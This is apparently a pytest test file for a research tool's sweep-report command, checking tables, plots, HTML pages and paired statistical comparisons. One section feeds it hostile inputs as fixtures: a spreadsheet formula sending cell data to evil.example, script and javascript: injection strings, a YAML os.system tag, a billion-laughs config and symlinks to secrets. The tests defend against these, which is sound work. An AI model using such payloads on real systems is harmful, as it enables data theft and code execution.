"""The sweep report on fabricated run folders: rows, mean ± std over seeds, failures, plots."""

from __future__ import annotations

import re
from pathlib import Path

import numpy as np
import pandas as pd
import pytest
import yaml

from deepimg.commands.report import report
from deepimg.commands.runs import write_metrics
from deepimg.errors import UserError


def make_run(folder: Path, overrides: list[str], config: dict, metrics: dict | None) -> None:
    (folder / ".hydra").mkdir(parents=True)
    (folder / ".hydra" / "overrides.yaml").write_text(yaml.safe_dump(overrides))
    (folder / ".hydra" / "config.yaml").write_text(yaml.safe_dump(config))
    if metrics is not None:
        write_metrics(folder, {**metrics, "status": "completed"})


@pytest.fixture
def sweep(tmp_path: Path) -> Path:
    """bits in {1, 4} x seed in {0, 1, 2}, with one run that never finished."""
    n = 0
    for bits in (1, 4):
        for seed in (0, 1, 2):
            failed = bits == 4 and seed == 2
            acc = 0.5 + 0.1 * bits + 0.01 * seed
            make_run(
                tmp_path / str(n),
                ["physical_layer=quantize", f"physical_layer.bits={bits}", f"seed={seed}"],
                {"physical_layer": {"bits": bits}, "seed": seed},
                None if failed else {"test/acc": acc, "test/f1": acc - 0.05},
            )
            n += 1
    return tmp_path


def test_one_row_per_setting_with_mean_std_and_count(sweep: Path) -> None:
    summary = report([sweep], metrics=["test/acc", "test/f1"])
    assert summary["bits"].tolist() == [1, 4]
    assert summary["n"].tolist() == [3, 2]
    assert summary["test/acc"].tolist() == pytest.approx([0.61, 0.905])
    assert summary["test/acc_std"].iloc[0] == pytest.approx(pd.Series([0.6, 0.61, 0.62]).std())
    written = pd.read_csv(sweep / "report" / "summary.csv")
    assert list(written.columns) == [
        "bits",
        "test/acc",
        "test/acc_std",
        "test/f1",
        "test/f1_std",
        "n",
    ]


def test_failed_runs_are_listed_and_plots_made(sweep: Path) -> None:
    report([sweep], metrics=["test/acc"])
    md = (sweep / "report" / "summary.md").read_text()
    assert "Failed runs (1)" in md and str(sweep / "5") in md
    assert "| 1 | 0.6100 ± 0.0100 | 3 |" in md
    assert "mean ± standard deviation over the n seeds" in md  # the spread, not the CI
    plot = sweep / "report" / "test_acc_vs_bits.png"
    assert plot.is_file() and plot.stat().st_size > 1000


def test_eight_runs_make_eight_rows(tmp_path: Path) -> None:
    for bits in range(1, 9):
        make_run(
            tmp_path / str(bits - 1),
            [f"physical_layer.bits={bits}"],
            {"physical_layer": {"bits": bits}},
            {"test/acc": bits / 10},
        )
    summary = report([tmp_path], metrics=["test/acc"])
    assert len(summary) == 8 and summary["bits"].tolist() == list(range(1, 9))
    assert "n" not in summary  # one run per setting: no count or spread to show


def test_colliding_short_names_keep_full_keys(tmp_path: Path) -> None:
    for i, (a, b) in enumerate([(1, 1), (2, 1), (1, 2)]):
        make_run(
            tmp_path / str(i),
            [f"x.size={a}", f"y.size={b}"],
            {"x": {"size": a}, "y": {"size": b}},
            {"test/acc": 0.5},
        )
    summary = report([tmp_path], metrics=["test/acc"])
    assert {"x.size", "y.size"} <= set(summary.columns)


def test_missing_and_empty_folders_are_user_errors(tmp_path: Path) -> None:
    with pytest.raises(UserError, match="does not exist"):
        report([tmp_path / "nope"], metrics=["test/acc"])
    with pytest.raises(UserError, match="no runs under"):
        report([tmp_path], metrics=["test/acc"])


# ---- the web page -----------------------------------------------------------------------------


def test_the_page_links_every_run_and_names_why_runs_failed(sweep: Path) -> None:
    from tests.analysis.pages import missing_images, references

    (sweep / "0" / "index.html").write_text("<html>run 0</html>")  # a run with its own page
    (sweep / "5" / "train.log").write_text("[INFO] - epoch 1\n[ERROR] - CUDA out of memory\n\n")
    report([sweep], metrics=["test/acc"])
    page = sweep / "report" / "index.html"
    links = references(page).links
    assert "../0/index.html" in links and "../1" in links  # a page where there is one
    assert len(links) == 6 + 1  # every run, and the failed one again in its own table
    text = page.read_text()
    assert "Failed runs (1)" in text and "[ERROR] - CUDA out of memory" in text
    assert ">physical_layer.bits</th>" in text and ">seed</th>" in text  # what differs
    assert "torch" in text and "python" in text and "git commit" in text
    assert missing_images(page) == [] and "test_acc_vs_bits.png" in references(page).images


def test_two_numeric_parameters_get_a_heatmap(tmp_path: Path) -> None:
    for i, (bits, sigma) in enumerate([(1, 0.5), (1, 1.0), (4, 0.5), (4, 1.0)]):
        make_run(
            tmp_path / str(i),
            [f"physical_layer.bits={bits}", f"physical_layer.sigma={sigma}"],
            {"physical_layer": {"bits": bits, "sigma": sigma}},
            {"test/acc": 0.5 + 0.1 * bits - 0.1 * sigma},
        )
    report([tmp_path], metrics=["test/acc"])
    heatmap = tmp_path / "report" / "test_acc_heatmap_bits_sigma.png"
    assert heatmap.stat().st_size > 5000
    assert "test_acc_heatmap_bits_sigma.png" in (tmp_path / "report" / "index.html").read_text()


def test_a_categorical_parameter_gets_a_plot_and_no_heatmap(tmp_path: Path) -> None:
    for i, layer in enumerate(["blur", "noise"]):
        make_run(tmp_path / str(i), [f"physical_layer={layer}"], {}, {"test/acc": 0.7 + 0.1 * i})
    report([tmp_path], metrics=["test/acc"])
    made = sorted(p.name for p in (tmp_path / "report").glob("*.png"))
    assert made == ["test_acc_vs_physical_layer.png"]


def test_several_sweeps_share_axes(tmp_path: Path) -> None:
    """`deepimg report fixed learned`: one table and one plot, a `sweep` column telling them apart."""
    for sweep, learnable in (("fixed", []), ("learned", ["physical_layer.learnable=true"])):
        for i, bits in enumerate((1, 2)):
            make_run(
                tmp_path / sweep / str(i),
                [f"physical_layer.bits={bits}", *learnable],
                {"physical_layer": {"bits": bits, "learnable": bool(learnable)}},
                {"test/acc": 0.5 + 0.1 * bits + (0.05 if learnable else 0)},
            )
    summary = report([tmp_path / "fixed", tmp_path / "learned"], metrics=["test/acc"])
    assert summary["sweep"].tolist() == ["fixed", "fixed", "learned", "learned"]
    assert summary["test/acc"].tolist() == pytest.approx([0.6, 0.7, 0.65, 0.75])
    assert not (tmp_path / "fixed" / "report").exists()  # the sweep's own report is left be
    out = tmp_path / "fixed" / "report-vs-learned"
    assert (out / "test_acc_vs_bits.png").stat().st_size > 5000
    text = (out / "index.html").read_text()
    assert "learned/1" in text and "../../learned/1" in text  # run names and links


def test_sweep_labels_are_the_shortest_distinct_path_endings(tmp_path: Path) -> None:
    from deepimg.commands.report import sweep_labels

    a, b = tmp_path / "day1" / "10-00", tmp_path / "day2" / "10-00"
    assert sweep_labels([a, b]) == ["day1/10-00", "day2/10-00"]
    assert sweep_labels([a, tmp_path / "day1" / "11-00"]) == ["10-00", "11-00"]


def test_no_git_commit_outside_a_git_checkout(tmp_path: Path) -> None:
    from deepimg.analysis.provenance import git_commit, versions

    assert git_commit(tmp_path) is None
    assert {"python", "torch", "pytorch-lightning", "deepimg"} <= set(versions())


# ---- a sweep folder someone sent: read as data, never as a way in --------------------------


def sent_sweep(tmp_path: Path) -> Path:
    """Two completed runs and one that never finished, as a report receives them."""
    sweep = tmp_path / "sent"
    for n, bits in enumerate((1, 4, 8)):
        make_run(
            sweep / str(n),
            [f"physical_layer.bits={bits}"],
            {"physical_layer": {"bits": bits}},
            None if bits == 8 else {"test/acc": 0.5 + bits / 100},
        )
    return sweep


def everything_written(sweep: Path, capsys) -> str:
    """The report's files and what it printed, as one text."""
    out = sweep / "report"
    files = [out / "index.html", out / "runs.csv", out / "summary.csv", out / "summary.md"]
    printed = capsys.readouterr()
    return "".join(f.read_text() for f in files) + printed.out + printed.err


def test_a_log_symlinked_to_a_secret_is_not_copied_into_the_report(tmp_path: Path, capsys) -> None:
    secret = tmp_path / "environ"
    secret.write_text("SECRET_TOKEN=hunter2\n")
    sweep = sent_sweep(tmp_path)
    for name in ("a.log", "train.log", "error.log"):
        (sweep / "2" / name).symlink_to(secret)
    report([sweep], metrics=["test/acc"])
    written = everything_written(sweep, capsys)
    assert "hunter2" not in written
    assert "leads outside" in written  # the failed run says why its log was not shown


def test_a_fifo_named_like_a_log_does_not_hang_the_report(tmp_path: Path, capsys) -> None:
    import os

    from tests.config.test_received import finishes_within

    sweep = sent_sweep(tmp_path)
    os.mkfifo(sweep / "2" / "train.log")
    (sweep / "0" / "metrics.json").unlink()
    os.mkfifo(sweep / "0" / "metrics.json")  # a completed run's record is a FIFO
    done, result = finishes_within(60, lambda: report([sweep], metrics=["test/acc"]))
    assert done, "the report hung on a FIFO"
    assert not isinstance(result, Exception), result
    assert "not a regular file" in everything_written(sweep, capsys)


def test_only_deepimgs_own_logs_are_shown(tmp_path: Path, capsys) -> None:
    sweep = sent_sweep(tmp_path)
    (sweep / "2" / "other.log").write_text("a line from some other program\n")
    (sweep / "2" / "train.log").write_text("[INFO] - epoch 0\n[ERROR] - out of memory\n")
    report([sweep], metrics=["test/acc"])
    written = everything_written(sweep, capsys)
    assert "out of memory" in written and "some other program" not in written


def test_interpolations_in_a_received_config_are_shown_as_written(
    tmp_path: Path, capsys, monkeypatch
) -> None:
    monkeypatch.setenv("SECRET_TOKEN", "hunter2")
    sweep = sent_sweep(tmp_path)
    for n, tag in enumerate(["${oc.env:SECRET_TOKEN}", "${nosuch:x}", "plain"]):
        config = sweep / str(n) / ".hydra" / "config.yaml"
        config.write_text(config.read_text() + f"tag: '{tag}'\n")
        overrides = sweep / str(n) / ".hydra" / "overrides.yaml"
        overrides.write_text(overrides.read_text() + f"- tag={tag}\n")
    summary = report([sweep], metrics=["test/acc"])
    written = everything_written(sweep, capsys)
    assert "hunter2" not in written
    assert "${oc.env:SECRET_TOKEN}" in written and "${nosuch:x}" in written
    assert len(summary) == 2  # the two completed runs, each its own setting


def test_nested_aliases_make_one_run_unreadable_not_the_report_slow(tmp_path: Path, capsys) -> None:
    from tests.config.test_received import BILLION_LAUGHS

    sweep = sent_sweep(tmp_path)
    config = sweep / "1" / ".hydra" / "config.yaml"
    config.write_text(config.read_text() + BILLION_LAUGHS)
    summary = report([sweep], metrics=["test/acc"])
    assert summary["bits"].tolist() == [1]
    runs = pd.read_csv(sweep / "report" / "runs.csv")
    assert "YAML nodes" in runs.loc[runs["run"].str.endswith("/1"), "error"].item()


def test_csv_cells_that_a_spreadsheet_would_run_are_neutralised(tmp_path: Path) -> None:
    formula = '=HYPERLINK("http://evil.example/?"&A1,"open")'
    for n, value in enumerate([formula, "@SUM(1+1)", "-0.5"]):
        make_run(tmp_path / str(n), [f"tag={value}"], {"tag": value}, {"test/acc": 0.5 + n / 10})
    report([tmp_path], metrics=["test/acc"])
    for name in ("summary.csv", "runs.csv"):
        tags = pd.read_csv(tmp_path / "report" / name, dtype=str)["tag"].tolist()
        assert sorted(tags) == sorted(["'" + formula, "'@SUM(1+1)", "-0.5"])  # a number stays


def test_markdown_and_html_show_markup_as_text(tmp_path: Path) -> None:
    from tests.analysis.pages import references

    script = "<script>alert(1)</script>"
    for n, value in enumerate([script, "[click](javascript:alert(2))"]):
        make_run(tmp_path / str(n), [f"tag={value}"], {"tag": value}, {"test/acc": 0.5 + n / 10})
    named = tmp_path / "javascript:alert(3)"
    make_run(named, ["tag=x"], {"tag": "x"}, {"test/acc": 0.9})
    (named / "index.html").write_text("<html>a run's page</html>")
    report([tmp_path], metrics=["test/acc"])
    md = (tmp_path / "report" / "summary.md").read_text()
    assert "<script>" not in md and "&lt;script&gt;" in md
    assert "\\[click\\](javascript:alert(2))" in md  # escaped brackets: text, not a link
    page = tmp_path / "report" / "index.html"
    assert "<script>" not in page.read_text()
    links = references(page).links
    assert "../javascript%3Aalert%283%29/index.html" in links
    assert not [href for href in links if ":" in href.split("/")[0]]  # no scheme, ever


def test_the_report_never_writes_over_a_run(tmp_path: Path) -> None:
    sweep = sent_sweep(tmp_path)
    run = sweep / "0"
    (run / "index.html").write_text("the run's own page")
    (run / "analysis").mkdir()
    for out in (run, sweep, run / "analysis"):
        with pytest.raises(UserError, match="holds runs"):
            report([run], metrics=["test/acc"], out=out)
    assert (run / "index.html").read_text() == "the run's own page"
    assert not (sweep / "summary.csv").exists()
    report([run], metrics=["test/acc"], out=tmp_path / "elsewhere")  # a new folder is fine
    assert (tmp_path / "elsewhere" / "index.html").is_file()


# ---- what a sweep shows: paired comparisons, answers, output for the paper ---------------------


def with_per_image(folder: Path, values: np.ndarray, prints: np.ndarray) -> None:
    np.savez(folder / "per_image.npz", acc=values, fingerprint=prints, index=np.arange(len(values)))


def test_a_design_comparison_states_its_answer_with_a_paired_ci(tmp_path: Path, capsys) -> None:
    """learnable=true against false over 3 seeds, each tested on the same 400 images: the
    answer is the first line of the page, summary.md and the terminal."""
    rng = np.random.default_rng(0)
    prints = rng.random(400)
    n = 0
    for seed in range(3):
        truth = rng.random(400) < 0.80  # the fixed design is right on 80% of the images
        learned = truth | (rng.random(400) < 0.5)  # the learned one on about 90%
        for learnable, right in (("false", truth), ("true", learned)):
            run = tmp_path / str(n)
            make_run(run, [f"physical_layer.learnable={learnable}", f"seed={seed}"],
                     {"physical_layer": {"learnable": learnable == "true"}, "seed": seed},
                     {"test/acc": float(right.mean())})  # fmt: skip
            with_per_image(run, right.astype(float), prints)
            n += 1
    report([tmp_path], metrics=["test/acc"])
    printed = capsys.readouterr().out
    answer = next(line for line in printed.splitlines() if line.startswith("learnable=True"))
    assert "vs learnable=False: test/acc +0.1" in answer
    assert "3 seeds × 400 test images, McNemar p < 1e-6" in answer
    md = (tmp_path / "report" / "summary.md").read_text()
    assert md.startswith("- learnable=True vs learnable=False: test/acc +0.1")
    page = (tmp_path / "report" / "index.html").read_text()
    assert page.index("What the sweep shows") < page.index("Summary")
    assert "McNemar p &lt; 1e-6" in page
    for suffix in ("png", "pdf", "svg"):
        assert (tmp_path / "report" / f"test_acc_vs_learnable.{suffix}").stat().st_size > 1000
    tex = (tmp_path / "report" / "summary.tex").read_text()
    assert "\\toprule" in tex and "\\bottomrule" in tex and "learnable" in tex


def test_a_numeric_sweep_states_the_smallest_setting_near_the_best_with_cis(
    tmp_path: Path, capsys
) -> None:
    """bits 1, 2, 4, 8 over 2 seeds on the same 2,000 images, right on 60%, 85%, 91% and 91.5%
    of them: 4 bits reach 99% of the best (8 bits), and the answer gives both means with their
    CIs and the count."""
    rng = np.random.default_rng(1)
    prints = rng.random(2000)
    for n, (bits, seed) in enumerate((b, s) for b in (1, 2, 4, 8) for s in (0, 1)):
        rate = {1: 0.60, 2: 0.85, 4: 0.91, 8: 0.915}[bits]
        right = (rng.random(2000) < rate).astype(float)
        run = tmp_path / str(n)
        make_run(run, [f"physical_layer.bits={bits}", f"seed={seed}"],
                 {"physical_layer": {"bits": bits}, "seed": seed},
                 {"test/acc": float(right.mean())})  # fmt: skip
        with_per_image(run, right, prints)
    report([tmp_path], metrics=["test/acc"])
    answer = next(line for line in capsys.readouterr().out.splitlines() if line.startswith("bits"))
    low_high = r"0\.\d+ \[0\.\d+, 0\.\d+\]"
    assert re.fullmatch(
        rf"bits: bits=4 reaches 99% of the best test/acc, {low_high} against {low_high} at "
        r"bits=8 \(95% CIs, 2 seeds × 2,000 test images\)",
        answer.strip(),
    ), answer
    md = (tmp_path / "report" / "summary.md").read_text()
    assert md.startswith("- bits: bits=4 reaches 99%")


def test_when_the_smallest_setting_is_the_best_the_answer_names_those_as_good(
    tmp_path: Path, capsys
) -> None:
    """At 1 photon a pixel every bit depth reads the same: bits 1 and 8 tie, and the answer
    says that 8 comes within 1% of the best, never that no other setting does."""
    rng = np.random.default_rng(2)
    prints = rng.random(500)
    right = (rng.random(500) < 0.77).astype(float)
    for n, bits in enumerate((1, 8)):
        run = tmp_path / str(n)
        make_run(run, [f"physical_layer.bits={bits}", "seed=0"],
                 {"physical_layer": {"bits": bits}, "seed": 0},
                 {"test/acc": float(right.mean())})  # fmt: skip
        with_per_image(run, right, prints)
    report([tmp_path], metrics=["test/acc"])
    answer = next(line for line in capsys.readouterr().out.splitlines() if line.startswith("bits"))
    assert "the best test/acc is at bits=1" in answer and "bits=8 comes within 1% of it" in answer


def test_runs_on_different_images_are_not_paired_and_say_so(tmp_path: Path) -> None:
    for n, (learnable, shift) in enumerate((("false", 0.0), ("true", 1.0))):
        run = tmp_path / str(n)
        make_run(run, [f"physical_layer.learnable={learnable}"],
                 {"physical_layer": {"learnable": learnable == "true"}}, {"test/acc": 0.8})  # fmt: skip
        with_per_image(run, np.ones(50), np.arange(50.0) + shift)
    report([tmp_path], metrics=["test/acc"])
    md = (tmp_path / "report" / "summary.md").read_text()
    assert "not compared:" in md and "tested on different images" in md


def test_a_tie_gets_no_star(tmp_path: Path) -> None:
    """Two settings whose difference the seeds cannot tell apart: neither is starred."""
    for n, (bits, acc) in enumerate([(4, 0.90), (4, 0.92), (8, 0.91), (8, 0.915)]):
        make_run(tmp_path / str(n), [f"physical_layer.bits={bits}", f"seed={n % 2}"],
                 {"physical_layer": {"bits": bits}, "seed": n % 2}, {"test/acc": acc})  # fmt: skip
    report([tmp_path], metrics=["test/acc"])
    assert "★" not in (tmp_path / "report" / "summary.md").read_text()


def test_a_python_object_tag_makes_its_run_unreadable_not_missing(tmp_path: Path) -> None:
    sweep = sent_sweep(tmp_path)
    (sweep / "0" / ".hydra" / "config.yaml").write_text("seed: !!python/object:os.system\n  - x\n")
    report([sweep], metrics=["test/acc"])
    runs = pd.read_csv(sweep / "report" / "runs.csv")
    error = runs.loc[runs["run"].str.endswith("/0"), "error"].item()
    assert "config.yaml is not readable YAML (could not determine a constructor" in error
    assert "no metrics.json" not in error
